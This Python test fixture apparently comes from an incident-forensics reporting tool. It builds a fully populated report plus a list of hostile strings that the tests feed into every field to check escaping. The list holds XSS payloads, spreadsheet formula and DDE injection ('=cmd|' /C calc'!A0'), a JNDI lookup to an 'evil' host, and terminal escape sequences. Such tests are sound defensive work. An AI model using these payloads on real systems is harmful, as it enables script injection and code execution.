"""Reports for the incident documents beyond the screens' ones: every section filled, and every one of them hostile."""

from __future__ import annotations

from dataclasses import replace

from forensics.model import CodeRead, Finding, Promised, Report
from tests.present.reports import FIRST, OVERWRITTEN, RAISED, hostile

FULL = replace(
    OVERWRITTEN,
    settings=(
        replace(
            OVERWRITTEN.settings[0],
            findings=(
                Finding("undone", "production", "10000 ran from 2026-08-18 until the deploy put 3000 back", FIRST, RAISED, ("e7", "e8")),
                Finding("live_only", "staging", "a value runs that no file declares"),
            ),
        ),
    ),
    promises=(
        Promised("e3", "permanent", "will file a ticket", "open", "no change to production followed", ("e4",), ("production",)),
        Promised("e4", "carry_on", "production follows", "broken", "89 days have gone by", (), ("production",)),
    ),
    code=(CodeRead("src/gateway.py", 12, "3000", "python", "x"), CodeRead("src/retry.py", 7, None, "python", "y")),
)

# What each format, and each program behind it, would take for something else than text.
ATTACKS = (
    "@here @channel <!channel> <!here> <@U0123> <#C0123|general> :warning:",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- forensics:end PAYMENT --> <b>bold</b> &lt; &#64;here",
    "[x](javascript:alert(1)) ![i](http://evil/p.png) **b** _i_ ~~s~~ `c` $x$ www.evil.example https://evil.example a@b.example #12",
    "{code}x{code} {color:red}r{color} {html}<b>{html} [~admin] [evil|http://evil.example] !http://e/p.png! ||h|| (!) (/) :) ;) \\\\ ----",
    "h1. heading",
    "bq. quoted",
    "* starred",
    "1. numbered",
    "# numbered",
    "--- rule",
    "~~~",
    "> quoted",
    '%%{init: {"securityLevel": "loose"}}%%',
    "click a call alert(1); section other : done, 2026-01-01, 1d",
    '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<b>]]></ac:plain-text-body></ac:structured-macro> ]]>',
    '<ri:user ri:userkey="1"/> &nbsp; &unknown;',
    '=HYPERLINK("http://evil.example")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "%0A=1",
    '"; =1+1,"x',
    "</font></para><a href='javascript:1'>x</a>",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b2J \x00",
    "\u202eesrever\u2069 \u2028 \ufeff \udc80 \ufffe \uffff \U0001fffe",
    "[/nope] [link=http://evil]y[/link]",
    "漢字 かな 한국 مرحبا שלום 👩‍💻 e\u0301",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil}",
    "",
    " ",
)


def attacked(bad: str) -> Report:
    """A report with `bad` in every field from outside, those of the later sections too."""
    report = hostile(bad)
    setting = replace(report.settings[0], findings=(Finding("undone", bad, bad, FIRST, RAISED, ("e1", bad)),))
    return replace(
        report,
        settings=(setting, *report.settings[1:]),
        promises=(Promised("e1", "permanent", bad, "open", bad, (bad,), (bad,)),),
        code=(CodeRead(bad, 3, bad, "python", bad),),
    )
